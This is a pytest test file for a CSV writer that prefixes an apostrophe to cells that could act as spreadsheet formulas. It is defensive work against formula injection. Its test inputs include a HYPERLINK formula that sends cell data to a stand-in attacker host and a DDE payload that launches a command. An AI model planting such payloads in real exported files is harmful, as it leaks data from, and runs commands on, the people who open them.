"""The formula-safe CSV writer: formulas become text, numbers and plain text stay as they are."""

import csv
import io
from decimal import Decimal

import pytest

from settlement import safe_csv


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (
            '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
            '\'=HYPERLINK("http://evil.example/?d="&A1,"Click")',
        ),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("=", "'="),
        ("-", "'-"),
        ("-e5", "'-e5"),
    ],
)
def test_a_cell_that_could_be_a_formula_gets_a_leading_apostrophe(cell: str, written: str) -> None:
    assert safe_csv.neutralise(cell) == written


@pytest.mark.parametrize(
    "cell",
    ["-5", "1.25", "+1.25", "-0.5", ".5", "-1e6", "2025-07-18T20:00:00Z", "plain text", "", "a=b"],
)
def test_numbers_and_plain_text_are_unchanged(cell: str) -> None:
    assert safe_csv.neutralise(cell) == cell


def test_values_that_are_not_text_are_written_as_their_text() -> None:
    assert safe_csv.neutralise(None) == ""
    assert safe_csv.neutralise(-5) == "-5"
    assert safe_csv.neutralise(Decimal("-1.25")) == "-1.25"


def test_the_writer_neutralises_every_cell_and_reads_back_with_csv_reader() -> None:
    stream = io.StringIO()
    writer = safe_csv.writer(stream)
    writer.writerow(["kind", "=1+2", -5])
    writer.writerows([["@x", "a,b", 'say "hi"'], ["-7", "\tx", None]])

    rows = list(csv.reader(io.StringIO(stream.getvalue())))

    assert rows == [
        ["kind", "'=1+2", "-5"],
        ["'@x", "a,b", 'say "hi"'],
        ["-7", "'\tx", ""],
    ]


def test_writerow_returns_what_the_stream_returned_so_rows_can_be_streamed() -> None:
    class Echo:
        def write(self, value: str) -> str:
            return value

    writer = safe_csv.writer(Echo())

    assert writer.writerow(["=A1", "1"]) == "'=A1,1\r\n"
